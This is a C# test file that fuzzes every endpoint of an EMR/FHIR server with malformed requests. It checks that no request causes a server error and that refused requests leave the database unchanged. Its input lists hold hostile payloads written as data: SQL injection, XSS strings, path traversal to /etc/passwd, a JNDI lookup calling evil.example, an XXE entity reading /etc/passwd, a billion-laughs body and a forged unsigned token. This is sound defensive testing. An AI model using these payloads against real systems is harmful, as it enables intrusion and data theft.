using System.Diagnostics;
using System.Globalization;
using System.Text;
using System.Text.Json;
using FsCheck;
using FsCheck.Fluent;
using Microsoft.FSharp.Core;
using ModularEmr.Tests.Security.Attacks;
using Xunit.Abstractions;

namespace ModularEmr.Tests.Security.Fuzz;

/// <summary>
/// Property-based fuzzing (FsCheck) of every endpoint the host maps: the routes are read from the host's
/// own endpoint data source (so a new endpoint is fuzzed without touching this test), route parameters
/// are filled with real and bogus ids, and each request carries generated malformed JSON, XML, form
/// bodies or bytes, query strings and headers, with valid tokens, other credentials or none. It asserts
/// that no answer is a 5xx, and that no refused (4xx) request changed the database (a checksum of every
/// table's rows, taken after every request). The host is its own (not the attack collection's), on Kestrel.
/// Bounded by <see cref="Budget"/>; the seed is printed, and <c>EMR_FUZZ_SEED=seed,gamma</c> replays a run.
/// </summary>
public sealed class EndpointFuzzTests(AttackHost host, ITestOutputHelper output) : IClassFixture<AttackHost>
{
    private const ulong DefaultSeed = 20_261_202;
    private const ulong DefaultGamma = 1_442_695_040_888_963_407;
    private const int RandomCases = 250;
    private static readonly TimeSpan Budget = TimeSpan.FromSeconds(40);

    /// <summary>Endpoints OpenIddict serves from its middleware, not from routes.</summary>
    private static readonly (string Method, string Pattern)[] ProtocolEndpoints =
    [
        ("POST", "/ws/oauth2/introspect"), ("POST", "/ws/oauth2/revoke"), ("GET", "/.well-known/openid-configuration"), ("GET", "/.well-known/jwks"),
    ];

    private static readonly string[] Methods = ["GET", "POST", "PUT", "DELETE", "PATCH", "HEAD", "OPTIONS"];

    private static readonly string[] Nasty =
    [
        string.Empty, " ", "'", "\"", "\\", "'; DROP TABLE person;--", "' OR '1'='1", "1 OR 1=1", "%", "%%", "%zz", "%00", "+", "&", "=", "#", "?",
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "../../../../etc/passwd", "..\\..\\windows\\win.ini",
        "${jndi:ldap://evil.example/a}", "{{7*7}}", "@{7*7}", "null", "undefined", "true", "[]", "{}", "-1", "0", "-0", "1e309", "NaN",
        "99999999999999999999999", "2147483648", "-2147483649", "2020-13-45", "0000-00-00", "gt2020-01-01", "eq", "1985-04-12T25:61:61Z",
        "ÿ", "Ω≈ç√∫", "😀", "\u202e", "\u200b", "ａｄｍｉｎ", "admin\u0000", "\ud800", new string('A', 3000), "00000000-0000-0000-0000-000000000000",
        "dda12af7-1691-11df-97a5-7038c432aabf", "xyz-spa", "http://127.0.0.1:5173/callback", "https://evil.example/", "patient/Patient.rs",
        "user/Patient.cruds", "openid offline_access", "S256", "plain", "code", "token id_token", "none", "ref", "full", "default",
    ];

    private static readonly string[] Keys =
    [
        "q", "_id", "identifier", "name", "family", "given", "birthdate", "gender", "_count", "_offset", "_format", "_pretty", "_total", "limit",
        "startIndex", "totalCount", "v", "purge", "reason", "client_id", "client_secret", "redirect_uri", "response_type", "response_mode", "scope",
        "state", "nonce", "code", "code_challenge", "code_challenge_method", "code_verifier", "grant_type", "username", "password", "refresh_token",
        "token", "token_type_hint", "prompt", "returnUrl", "signedOut", "post_logout_redirect_uri", "id_token_hint", "resourceType", "givenName",
        "familyName", "preferred", "person", "names", "identifiers", "redirectUris", "grantTypes", "scopes", "clientType", "acceptTerms",
        "roles", "privileges", "consent_decision", "__RequestVerificationToken",
    ];

    private static readonly string[] Headers =
    [
        "Accept: application/fhir+xml", "Accept: application/xml", "Accept: text/html", "Accept: */*;q=0", "Accept: ü/ü", "Accept: application/fhir+json; fhirVersion=9.9",
        "Content-Type: application/json", "Content-Type: application/fhir+json", "Content-Type: application/fhir+xml", "Content-Type: text/xml",
        "Content-Type: application/x-www-form-urlencoded", "Content-Type: multipart/form-data; boundary=x", "Content-Type: application/json; charset=utf-7",
        "Content-Type: ;;;", "Prefer: handling=lenient", "Prefer: return=representation", "If-Match: W/\"x\"", "If-Match: *", "If-None-Match: *",
        "If-None-Match: W/\"1\"", "X-HTTP-Method-Override: DELETE", "X-Forwarded-For: 10.0.0.1", "X-Forwarded-Host: evil.example", "Origin: https://evil.example",
        "Cookie: .ModularEmr.Session=garbage; .ModularEmr.Antiforgery=garbage", "RequestVerificationToken: garbage", "Range: bytes=0-1",
        "Accept-Encoding: gzip, br", "Accept-Language: zz", "Transfer-Encoding: identity", "Expect: 100-continue", "Referer: https://evil.example/",
    ];

    private static readonly string[] XmlBodies =
    [
        "<Patient xmlns=\"http://hl7.org/fhir\"><name><family value=\"{v}\"/></name><birthDate value=\"{v}\"/></Patient>",
        "<?xml version=\"1.0\"?><!DOCTYPE p [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><Patient xmlns=\"http://hl7.org/fhir\"><id value=\"&x;\"/></Patient>",
        "<?xml version=\"1.0\"?><!DOCTYPE l [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\">]><Patient xmlns=\"http://hl7.org/fhir\"><id value=\"&c;\"/></Patient>",
        "<Patient xmlns=\"http://hl7.org/fhir\"><id value=\"{v}\"/><name><given value=\"{v}\"/></name></Patient",
        "<Bundle xmlns=\"http://hl7.org/fhir\"><entry><resource><Patient/></resource></entry></Bundle>",
        "<{v}/>",
        "<Patient xmlns=\"http://evil.example\">{v}</Patient>",
    ];

    private static readonly string[] JsonKeys =
    [
        "resourceType", "id", "meta", "name", "family", "given", "gender", "birthDate", "identifier", "system", "value", "use", "active", "deceasedBoolean",
        "givenName", "middleName", "familyName", "preferred", "person", "names", "identifiers", "identifierType", "birthdate", "birthdateEstimated",
        "name", "clientType", "redirectUris", "grantTypes", "scopes", "acceptTerms", "acceptDiscouragedGrants", "website", "access_token", "roles",
        "patient", "client_id", "__proto__", "$type", "constructor",
    ];

    private static readonly Gen<string> Text = Gen.OneOf(
        Gen.Elements(Nasty),
        ArbMap.Default.GeneratorFor<string>().Select(s => s ?? string.Empty),
        ArbMap.Default.GeneratorFor<int>().Select(i => i.ToString(CultureInfo.InvariantCulture)));

    /// <summary>How a value is put into a URL: escaped, raw (as an attacker may send it), or with broken escapes.</summary>
    private static readonly Gen<Func<string, string>> UrlEncoding = Gen.Elements<Func<string, string>>(
        Uri.EscapeDataString,
        Uri.EscapeDataString,
        raw => new string(raw.Where(c => c > ' ' && c < 0x7f && c is not '#' and not '&' and not '?').ToArray()),
        raw => Uri.EscapeDataString(raw) + "%",
        raw => "%00" + Uri.EscapeDataString(raw),
        raw => "%E0%80%80" + Uri.EscapeDataString(raw),
        raw => "%FF%FE" + Uri.EscapeDataString(raw));

    private enum Credential
    {
        None,
        BearerAlice,
        BearerAdmin,
        BearerSystem,
        BearerGarbage,
        BasicDeveloper,
        BasicClient,
        BasicGarbage,
    }

    private enum BodyKind
    {
        None,
        Json,
        MalformedJson,
        Xml,
        Form,
        Bytes,
    }

    private sealed record FuzzCase(string Method, string Route, string Target, Credential Credential, IReadOnlyList<string> Headers, BodyKind Kind, string? ContentType, byte[]? Body)
    {
        public override string ToString()
        {
            var body = Body is null ? "(none)" : Encoding.UTF8.GetString(Body);
            return $"{Method} {Target} [{Credential}] headers: {string.Join(" | ", Headers)} content-type: {ContentType} body ({Kind}, {Body?.Length ?? 0} bytes): {(body.Length > 300 ? body[..300] + "…" : body)}";
        }
    }

    [Fact]
    [Trait("Source", "OWASP Fuzzing; OWASP Error Handling Cheat Sheet; CWE-20 (input validation); CWE-209 (errors)")]
    public async Task Malformed_requests_to_every_endpoint_never_answer_5xx_nor_change_the_database_when_refused()
    {
        var (seed, gamma) = Seed();
        output.WriteLine($"Fuzz seed {seed},{gamma}: replay with EMR_FUZZ_SEED={seed},{gamma}");
        var context = await PrepareAsync();
        output.WriteLine($"{context.Endpoints.Count} endpoints: {string.Join(", ", context.Endpoints.Select(e => $"{e.Method} {e.Pattern}"))}");
        var stopwatch = Stopwatch.StartNew();
        var statuses = new SortedDictionary<int, int>();
        var covered = new HashSet<string>(StringComparer.Ordinal);
        var checksum = await host.DatabaseChecksumAsync();

        // Every violation is kept (the first of each kind in full) and reported at the end, so one run shows them all.
        var violations = new SortedDictionary<string, string>(StringComparer.Ordinal);
        var violationCount = 0;
        var skipped = 0;

        async Task RunAsync(FuzzCase fuzz)
        {
            var logged = host.Logs.Lines.Count;
            RawResponse response;
            try
            {
                response = await SendAsync(fuzz, context);
            }
            catch (InvalidOperationException noAnswer)
            {
                violationCount++;
                violations.TryAdd($"no answer at {fuzz.Route}", noAnswer.Message);
                return;
            }

            statuses[response.Status] = statuses.GetValueOrDefault(response.Status) + 1;
            covered.Add(fuzz.Route);
            var after = await host.DatabaseChecksumAsync();
            string? violation = null;
            if (response.Status >= 500)
            {
                var error = host.Logs.Lines.Skip(logged).FirstOrDefault(l => l.StartsWith("Error", StringComparison.Ordinal)) ?? "(nothing logged)";
                var cause = error.Split(" at ", 2)[0].Replace("Error Microsoft.AspNetCore.Diagnostics.ExceptionHandlerMiddleware: An unhandled exception has occurred while executing the request. ", string.Empty, StringComparison.Ordinal);
                violation = $"{response.Status} at {fuzz.Route}: {Truncate(cause, 240)}";
            }
            else if (response.Status is >= 400 and < 500 && after != checksum)
            {
                violation = $"refused with {response.Status} at {fuzz.Route}, yet the database changed";
            }

            if (violation is not null)
            {
                violationCount++;
                violations.TryAdd(violation, $"{fuzz}\n      answer: {Truncate(response.Body, 300)}");
            }

            checksum = after;
        }

        // 1. Every endpoint with every kind of credential (none, valid tokens, Basic, garbage), twice, deterministic from the seed.
        var credentials = Enum.GetValues<Credential>();
        for (var index = 0; index < context.Endpoints.Count; index++)
        {
            for (var kind = 0; kind < credentials.Length; kind++)
            {
                var generator = CaseGen(context, Gen.Constant(index), Gen.Constant(credentials[kind]));
                foreach (var fuzz in Gen.Sample(generator, 2, new Rnd(seed + (ulong)((index * credentials.Length) + kind), gamma), 20))
                {
                    await RunAsync(fuzz);
                }
            }
        }

        var swept = statuses.Values.Sum();
        output.WriteLine($"sweep: {swept} requests in {stopwatch.Elapsed.TotalSeconds:F1}s");

        // 2. Random cases, any endpoint and credential, until the case count or the time budget runs out.
        var property = Prop.ForAll(Arb.From(CaseGen(context, Gen.Choose(0, context.Endpoints.Count - 1), Gen.Elements(Enum.GetValues<Credential>()))), async (FuzzCase fuzz) =>
        {
            if (stopwatch.Elapsed < Budget)
            {
                await RunAsync(fuzz);
            }
            else
            {
                skipped++;
            }
        });
        var config = Config.QuickThrowOnFailure.WithMaxTest(RandomCases).WithQuietOnSuccess(true)
            .WithReplay(FSharpOption<Replay>.Some(new Replay(new Rnd(seed, gamma), FSharpOption<int>.None)));
        try
        {
            await Task.Run(() => Check.One(config, property));
        }
        catch (Exception failure)
        {
            throw new Xunit.Sdk.XunitException($"Fuzz seed {seed},{gamma} (EMR_FUZZ_SEED={seed},{gamma}) failed:\n{failure.Message}");
        }

        output.WriteLine($"total: {statuses.Values.Sum()} requests in {stopwatch.Elapsed.TotalSeconds:F1}s ({skipped} random cases left out by the time budget); statuses: {string.Join(", ", statuses.Select(s => $"{s.Key}×{s.Value}"))}");
        Assert.True(violations.Count == 0, $"Fuzz seed {seed},{gamma} (replay: EMR_FUZZ_SEED={seed},{gamma}): {violationCount} requests broke a rule, {violations.Count} distinct:\n"
            + string.Join("\n", violations.Take(25).Select(v => $"- {v.Key}\n    first case: {v.Value}")));
        Assert.Equal(context.Endpoints.Select(e => e.Method + " " + e.Pattern).Order(StringComparer.Ordinal), covered.Order(StringComparer.Ordinal));
        Assert.True(statuses.Values.Sum() >= swept + 50 || stopwatch.Elapsed >= Budget, $"only {statuses.Values.Sum()} requests were sent");
        Assert.True(statuses.Keys.Any(s => s is >= 400 and < 500), "no request was refused: the fuzz did not reach the checks");
    }

    private static (ulong Seed, ulong Gamma) Seed()
    {
        var given = Environment.GetEnvironmentVariable("EMR_FUZZ_SEED");
        if (string.IsNullOrWhiteSpace(given))
        {
            return (DefaultSeed, DefaultGamma);
        }

        var parts = given.Split(',');
        return (ulong.Parse(parts[0], CultureInfo.InvariantCulture), parts.Length > 1 ? ulong.Parse(parts[1], CultureInfo.InvariantCulture) : DefaultGamma);
    }

    private sealed record FuzzContext(IReadOnlyList<(string Method, string Pattern)> Endpoints, IReadOnlyDictionary<Credential, string?> Authorization, IReadOnlyList<string> Ids, IReadOnlyList<string> ClientIds);

    private async Task<FuzzContext> PrepareAsync()
    {
        var mapped = host.MappedRoutes();
        var endpoints = mapped.Concat(ProtocolEndpoints.Where(p => !mapped.Contains(p))).ToList();
        var (other, _) = await host.OtherPatientAsync();
        var aliceName = (await host.ScalarAsync(
            "SELECT n.uuid FROM person_name n JOIN person p ON p.id = n.person_id WHERE lower(p.uuid) = $p ORDER BY n.id LIMIT 1", ("$p", AttackHost.AlicePatient)))!.ToLowerInvariant();
        var role = (await host.ScalarAsync("SELECT uuid FROM role WHERE name = 'Provider'"))!.ToLowerInvariant();
        var alice = (await host.ScalarAsync("SELECT uuid FROM users WHERE username = 'alice'"))!.ToLowerInvariant();

        // A client of the developer's own that may be deleted or rotated by a fuzz case: the demo clients are kept.
        var (throwaway, _) = await host.RegisterClientAsync(("bob", "Bob12345"), "confidential-web", ["client_credentials"], ["rest.read"]);
        var authorization = new Dictionary<Credential, string?>
        {
            [Credential.None] = null,
            [Credential.BearerAlice] = "Bearer " + await host.AliceTokenAsync("patient/Patient.rs user/Patient.cruds rest.read rest.write openid"),
            [Credential.BearerAdmin] = "Bearer " + await host.AdminTokenAsync("user/Patient.cruds rest.read rest.write openid profile fhirUser"),
            [Credential.BearerSystem] = "Bearer " + await host.SystemTokenAsync("system/Patient.cruds rest.read rest.write"),
            [Credential.BearerGarbage] = "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9.",
            [Credential.BasicDeveloper] = "Basic " + Convert.ToBase64String(Encoding.UTF8.GetBytes("bob:Bob12345")),
            [Credential.BasicClient] = "Basic " + Convert.ToBase64String(Encoding.UTF8.GetBytes($"{AttackHost.Confidential}:{AttackHost.ConfidentialSecret}")),
            [Credential.BasicGarbage] = "Basic %%%not-base64",
        };
        return new FuzzContext(endpoints, authorization, [AttackHost.AlicePatient, other, aliceName, role, alice, AttackHost.BobPerson], [throwaway, "xyz-spa", "no-such-client"]);
    }

    private static Gen<FuzzCase> CaseGen(FuzzContext context, Gen<int> endpoint, Gen<Credential> credential) =>
        from index in endpoint
        from otherMethod in Gen.Frequency((5, Gen.Constant<string?>(null)), (1, Gen.Elements(Methods).Select(m => (string?)m)))
        from target in TargetGen(context, context.Endpoints[index].Pattern)
        from query in Gen.ListOf(Gen.Zip(Gen.OneOf(Gen.Elements(Keys), Text), Gen.Zip(Text, UrlEncoding)), 0).Resize(4)
        from who in credential
        from headers in Gen.SubListOf(Headers).Select(list => list.Take(3).ToList())
        from body in BodyGen()
        select new FuzzCase(
            otherMethod ?? context.Endpoints[index].Method,
            context.Endpoints[index].Method + " " + context.Endpoints[index].Pattern,
            target + (query.Count == 0 ? string.Empty : (target.Contains('?', StringComparison.Ordinal) ? "&" : "?") + string.Join('&', query.Select(q => $"{q.Item2.Item2(q.Item1)}={q.Item2.Item2(q.Item2.Item1)}"))),
            who,
            headers,
            body.Kind,
            body.ContentType,
            body.Body);

    /// <summary>The route with each parameter replaced by a real id, a bogus one, or something nasty.</summary>
    private static Gen<string> TargetGen(FuzzContext context, string pattern)
    {
        var segments = pattern.Split('/');
        return Gen.CollectToList(segments.Select(segment =>
        {
            if (!segment.StartsWith('{'))
            {
                return Gen.Constant(segment);
            }

            var name = segment.Trim('{', '}', '*').Split(':')[0];
            Gen<string> real = name switch
            {
                "clientId" => Gen.Elements<string>(context.ClientIds),
                "documentName" => Gen.Elements<string>("rest", "v1", "openapi"),
                "path" => Gen.Elements<string>("Observation", "Patient/x/_history/1", "$export", "Patient/$everything", "metadata/../Patient"),
                _ => Gen.Elements<string>(context.Ids),
            };
            return Gen.Frequency((3, real), (1, Gen.Zip(Text, UrlEncoding).Select(t => t.Item2(t.Item1)).Select(v => v.Length == 0 ? "x" : v)));
        })).Select(parts => string.Join('/', parts));
    }

    private static Gen<(BodyKind Kind, string? ContentType, byte[]? Body)> BodyGen() =>
        Gen.Frequency(
            (2, Gen.Constant<(BodyKind, string?, byte[]?)>((BodyKind.None, null, null))),
            (3, JsonGen(3).SelectMany(json => Gen.Elements("application/json", "application/fhir+json", "text/plain").Select(type => (BodyKind.Json, (string?)type, (byte[]?)Encoding.UTF8.GetBytes(json))))),
            (3, from json in JsonGen(3)
                from cut in Gen.Choose(0, 100)
                from junk in Gen.Elements(string.Empty, ",", "}", "{", "\"", "\\", "/*", "\u0000", "\ufeff", ",]", "NaN", "'")
                from type in Gen.Elements("application/json", "application/fhir+json")
                let text = json[..(json.Length * cut / 100)] + junk
                select (BodyKind.MalformedJson, (string?)type, (byte[]?)Encoding.UTF8.GetBytes(text))),
            (2, from template in Gen.Elements(XmlBodies)
                from value in Text
                from type in Gen.Elements("application/fhir+xml", "application/xml", "text/xml")
                select (BodyKind.Xml, (string?)type, (byte[]?)Encoding.UTF8.GetBytes(template.Replace("{v}", value, StringComparison.Ordinal)))),
            (3, from pairs in Gen.ListOf(Gen.Zip(Gen.OneOf(Gen.Elements(Keys), Text, Gen.Constant(new string('k', 3000))), Gen.Zip(Text, UrlEncoding)), 0).Resize(6)
                select (BodyKind.Form, (string?)"application/x-www-form-urlencoded",
                    (byte[]?)Encoding.UTF8.GetBytes(string.Join('&', pairs.Select(p => $"{p.Item2.Item2(p.Item1)}={p.Item2.Item2(p.Item2.Item1)}"))))),
            (1, from bytes in ArbMap.Default.GeneratorFor<byte[]>()
                from type in Gen.Elements("application/json", "application/fhir+json", "application/fhir+xml", "application/x-www-form-urlencoded", "application/octet-stream")
                select (BodyKind.Bytes, (string?)type, (byte[]?)(bytes ?? []))));

    /// <summary>JSON documents with the keys this server reads and hostile values, nested to <paramref name="depth"/>.</summary>
    private static Gen<string> JsonGen(int depth)
    {
        var scalar = Gen.OneOf(
            Text.Select(s => JsonSerializer.Serialize(s)),
            Gen.Elements("null", "true", "false", "0", "-1", "1e309", "-0.0", "123456789012345678901234567890", "\"\\ud800\"", "\"\\u0000\""));
        if (depth <= 0)
        {
            return scalar;
        }

        var member = Gen.Zip(Gen.Frequency((4, Gen.Elements(JsonKeys)), (1, Text)), Gen.Sized(size => JsonGen(depth - 1)));
        var obj = Gen.ListOf(member, 0).Resize(5).Select(members => "{" + string.Join(',', members.Select(m => $"{JsonSerializer.Serialize(m.Item1)}:{m.Item2}")) + "}");
        var array = Gen.ListOf(JsonGen(depth - 1), 0).Resize(3).Select(items => "[" + string.Join(',', items) + "]");
        var patient = Gen.Zip(Text, Text).Select(v => $"{{\"resourceType\":\"Patient\",\"id\":{JsonSerializer.Serialize(v.Item1)},\"name\":[{{\"family\":{JsonSerializer.Serialize(v.Item2)}}}],\"birthDate\":{JsonSerializer.Serialize(v.Item1)}}}");
        return Gen.Frequency((3, scalar), (3, obj), (1, array), (2, patient));
    }

    private async Task<RawResponse> SendAsync(FuzzCase fuzz, FuzzContext context)
    {
        var headers = new List<string>(fuzz.Headers);
        if (context.Authorization[fuzz.Credential] is { } authorization)
        {
            headers.Add("Authorization: " + authorization);
        }

        if (fuzz.ContentType is not null && !headers.Any(h => h.StartsWith("Content-Type:", StringComparison.OrdinalIgnoreCase)))
        {
            headers.Add("Content-Type: " + fuzz.ContentType);
        }

        try
        {
            return await host.RawAsync(fuzz.Method, fuzz.Target, headers, fuzz.Body);
        }
        catch (Exception exception) when (exception is IOException or System.Net.Sockets.SocketException)
        {
            throw new InvalidOperationException($"no answer ({exception.Message}) for {fuzz}", exception);
        }
    }

    private static string Truncate(string text, int length) => text.Length > length ? text[..length] + "…" : text;
}
